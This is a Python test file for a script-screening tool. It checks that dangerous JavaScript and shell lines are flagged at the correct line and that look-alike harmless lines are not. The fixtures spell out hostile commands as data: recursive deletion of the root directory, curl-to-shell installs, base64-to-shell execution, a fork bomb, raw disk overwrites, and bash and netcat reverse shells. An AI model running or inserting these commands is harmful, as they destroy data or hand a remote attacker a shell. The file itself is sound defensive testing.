from pathlib import PurePosixPath

import pytest

from assay.screening.rules import ScreeningPolicy
from assay.screening.scan import Screening, can_screen

SCREEN = Screening(ScreeningPolicy())

DANGEROUS = {
    "a.js": (
        (1, "const { execSync } = require('child_process')"),
        (1, 'import { spawn } from "node:child_process";'),
        (3, "import {\n  spawn,\n} from 'child_process'"),
        (1, "const cp = await import(`child_process`)"),
        (1, "import net from 'net'"),
        (2, "const x = 1\neval(x)"),
        (1, "new Function('return 1')()"),
        (1, "process.binding('fs')"),
        (1, "[].constructor.constructor('return 1')()"),
        (1, "Deno.run({ cmd: ['ls'] })"),
    ),
    "a.sh": (
        (1, "rm -rf /"),
        (2, "cd x\nrm -r -f --no-preserve-root /*"),
        (1, 'test -d x && rm -rf "$HOME"'),
        (1, "rm -rf ~/ ; ls"),
        (1, "curl -fsSL https://example.org/install.sh | sh"),
        (1, "wget -qO- x | sudo bash"),
        (1, "curl \\\n  -s x \\\n  | bash"),
        (1, "echo aGk= | base64 -d | sh"),
        (1, 'eval "$(curl x)"'),
        (1, ":(){ :|:& };:"),
        (3, "a\nb\ndd if=x of=/dev/sda"),
        (1, "bash -i >& /dev/tcp/h/1 0>&1"),
        (1, "sudo rm x"),
        (1, "nc -e /bin/sh h 1"),
        (1, "mkfs.ext4 x"),
    ),
}

INNOCENT = {
    "a.js": (
        "// require('child_process')",
        "/*\n * eval('x')\n */",
        "import fs from 'fs'\nfs.readFileSync('x')",
        "parser.eval(tree); medieval(1); retrieval (2)",
        "import test from 'node:test'\nimport assert from 'node:assert'",
        "import { internet } from './net'",
        "x.constructor.name",
    ),
    "a.sh": (
        "# rm -rf /",
        "rm -rf build/ dist",
        "rm -rf ./*; rm -f /tmp/x",
        'rm -rf "$HOME/.cache/x"',
        "curl -o x.tar.gz https://example.org/x; tar xf x.tar.gz",
        "cat x | sort | sh_lint",
        "echo farm -rf",
        "dd if=/dev/zero of=/dev/null",
        "python -m pytest -q > /dev/null 2>&1",
        "func=ncols; such; result=1",
    ),
}


@pytest.mark.parametrize(
    ("name", "line", "code"),
    [(name, line, code) for name, cases in DANGEROUS.items() for line, code in cases],
)
def test_what_speaks_for_itself_is_named_at_its_line(name: str, line: int, code: str) -> None:
    findings = SCREEN(PurePosixPath(name), code.encode())

    assert {(finding.rule, finding.line) for finding in findings} == {("text", line)}


@pytest.mark.parametrize(
    ("name", "code"), [(name, code) for name, cases in INNOCENT.items() for code in cases]
)
def test_ordinary_scripts_are_not_named(name: str, code: str) -> None:
    assert SCREEN(PurePosixPath(name), code.encode()) == ()


def test_a_pattern_may_be_allowed_by_its_name() -> None:
    code = b"import { spawn } from 'child_process'"

    policy = ScreeningPolicy(allow=("child_process",))

    assert SCREEN(PurePosixPath("a.ts"), code)
    assert Screening(policy)(PurePosixPath("a.ts"), code) == ()


@pytest.mark.parametrize("name", ["a.py", "A.PY", "b/c.pyw", "a.mjs", "a.tsx", "a.bash"])
def test_what_can_be_read_is_known_by_its_name(name: str) -> None:
    assert can_screen(PurePosixPath(name))


@pytest.mark.parametrize("name", ["a.rs", "a.go", "a.c", "Makefile", "py", "a.txt", ".py.txt"])
def test_what_cannot_be_read_has_no_findings_and_says_so(name: str) -> None:
    assert not can_screen(PurePosixPath(name))
    assert SCREEN(PurePosixPath(name), b"import subprocess\nrm -rf /\n") == ()
